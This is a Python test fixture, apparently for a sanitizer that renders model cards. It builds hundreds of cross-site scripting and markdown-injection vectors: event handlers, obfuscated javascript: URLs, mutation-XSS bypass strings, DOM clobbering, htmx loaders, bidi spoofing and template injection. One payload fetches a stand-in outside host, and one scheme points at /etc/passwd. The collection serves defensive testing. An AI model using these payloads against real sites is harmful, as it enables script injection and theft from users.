"""Markdown and HTML that tries to run something, load something or leave, as a hostile model card would hold it."""

import html
from collections.abc import Iterator
from itertools import product

AWAY = "http://elsewhere.example/x"
RUN = "window.__hit=1;alert(1);fetch('http://elsewhere.example/')"
EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "onbegin",
    "onpointerenter", "onwheel", "onscroll", "oncopy", "onbeforetoggle", "ontransitionend", "onpageshow",
    "onhashchange",
)  # fmt: skip
ELEMENTS = (
    "img src=x", "svg", "details open", "body", "video src=x", "a href=# autofocus tabindex=0", "table", "marquee",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", 'java\tscript:', 'java\nscript:', " javascript:", "javascript&colon;",
    "&#106;avascript:", "&#x6A;avascript&#58;", '\x01javascript:', "vbscript:", "data:text/html,",
    "data:text/html;base64,", 'javascript\u200b:', "jav&#x0A;ascript:", "JAVASCRIPT&#x3A;", "blob:",
    "file:///etc/passwd#", "view-source:javascript:", "%6aavascript:",
)  # fmt: skip
FORMS = (
    "[go]({url})", "![go]({url})", "<{url}>", '<a href="{url}">go</a>', '[go]({url} "title" onmouseover=alert(1))',
    '[ref]: {url}\n\n[ref]', '<img src="{url}">', '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>go</button></form>',
)  # fmt: skip
LOADS = (
    '<script src="{away}"></script>', "<script>{run}</script>", "<SCRIPT/SRC={away}></SCRIPT>",
    '<link rel=stylesheet href="{away}">', '<link rel=prefetch href="{away}">',
    '<link rel=dns-prefetch href="//elsewhere.example">', '<meta http-equiv=refresh content="0;url={away}">',
    '<base href="{away}/">', '<iframe srcdoc="<script>{run}</script>"></iframe>', '<object data="{away}"></object>',
    '<embed src="{away}">', '<img srcset="{away} 1x">', '<picture><source srcset="{away}"><img src=x></picture>',
    '<video poster="{away}"></video>', '<audio src="{away}" autoplay></audio>', '<track src="{away}">',
    '<input type=image src="{away}">', '<body background="{away}">',
    '<table background="{away}"><tr><td>x</td></tr></table>', '<style>@import "{away}";</style>',
    '<div style="background:url({away})">x</div>', '<p style="position:fixed;inset:0;z-index:9999">over all</p>',
    '<a href="{away}" ping="{away}">x</a>', '<svg><image href="{away}"/></svg>', '<svg><use href="{away}#a"/></svg>',
    "<svg><script>{run}</script></svg>", '<svg><a xlink:href="javascript:{run}"><text>x</text></a></svg>',
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>', '<svg><set attributeName=href to="javascript:{run}">',
    '<math href="javascript:{run}">x</math>',
    '<math><maction actiontype="statusline#{away}" xlink:href="javascript:{run}">x</maction></math>',
    '<isindex action="javascript:{run}" type=image>', '<button formaction="javascript:{run}">x</button>',
    '<form id=f></form><button form=f formaction="javascript:{run}">x</button>', '<keygen autofocus onfocus="{run}">',
    '<frameset onload="{run}">', '<bgsound src="javascript:{run}">', '<layer src="{away}"></layer>',
    '<xml src="{away}">', '<applet code="{away}"></applet>',
    '<noscript><p title="</noscript><img src=x onerror={run}>">', "<title><img src=x onerror={run}></title>",
    "<textarea><img src=x onerror={run}></textarea>", "<xmp><img src=x onerror={run}></xmp>",
    "<template><script>{run}</script></template>", "<![CDATA[<img src=x onerror={run}>]]>",
    "<!--><img src=x onerror={run}>-->", "<!-- --!><img src=x onerror={run}> -->",
    '<?xml version="1.0"?><img src=x onerror={run}>', '<!DOCTYPE x [<!ENTITY y "z">]>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    "<svg><style><img src=x onerror={run}></style></svg>",
    '<svg><foreignObject><iframe src="javascript:{run}"></iframe></foreignObject></svg>',
    '<img src="x` `<script>{run}</script>"` `>', '<img src=x:x onerror\x00="{run}">',
    '<img """><script>{run}</script>">', "<<script>{run}//<</script>", '<a href="\\x0Bjavascript:{run}">x</a>',
    "<a id=forms name=documentElement href=#>clobber</a>", "<img name=cookie><img id=getElementById>",
    "<form id=htmx><input name=ajax></form>", '<div hx-get="{away}" hx-trigger="load">x</div>',
    '<div data-hx-get="{away}" data-hx-trigger="load">x</div>', '<div hx-on:load="{run}">x</div>',
    "<main id=main><h1>Approved</h1></main>", "<dialog open>Sign in again</dialog>",
    "<details open ontoggle={run}><summary>x</summary></details>", '<p>\u202egnp.exe\u202c</p>',
    'x\u2066\u2067\u202d[go](javascript:{run})',
)  # fmt: skip
BREAKS = (
    '```\n</code></pre><script>{run}</script>\n```', '```html onload={run}\n<img src=x onerror={run}>\n```',
    '~~~"><img src=x onerror={run}>\nx\n~~~', "`</code><img src=x onerror={run}>`",
    '| a |\n|---|\n| <img src=x onerror={run}> |',
    '[x][<img src=x onerror={run}>]\n\n[<img src=x onerror={run}>]: {away}', "# <img src=x onerror={run}>",
    "> <script>{run}</script>", "- [ ] <input onfocus={run} autofocus>", "1. <svg onload={run}>",
    '* * *\n<script>{run}</script>', '![a](x ""><img src=x onerror={run}>")', "[a](<javascript:{run}>)",
    '[a](http://a.example"onmouseover="{run})', '<http://a.example/"onclick={run}>', "<javascript:{run}>",
    '<a@b.example"onclick={run}>', "&lt;script&gt;{run}&lt;/script&gt;", '\\<script>{run}\\</script>',
    '<div>\n\n<script>{run}</script>\n\n</div>', "<pre><script>{run}</script></pre>",
    "<table><script>{run}</script></table>", '[^1]\n\n[^1]: <img src=x onerror={run}>',
    "$$<img src=x onerror={run}>$$", "{{% include 'settings.py' %}} {{{{ request.user.password }}}}",
    '---\ntitle: <script>{run}</script>\n---\n', "<details><summary><img src=x onerror={run}></summary></details>",
)  # fmt: skip


def vectors() -> Iterator[tuple[str, str]]:
    """Every vector once, as (name, markdown)."""
    for element, event in product(ELEMENTS, EVENTS):
        yield f"{element.split()[0]} {event}", f'<{element} {event}="{html.escape(RUN)}">'
    for number, (scheme, form) in enumerate(product(SCHEMES, FORMS)):
        yield f"scheme {number}", form.format(url=f"{scheme}{'alert(1)' if ' ' in form else RUN}")
    for number, text in enumerate((*LOADS, *BREAKS)):
        yield f"load {number}", text.format(run=RUN, away=AWAY)
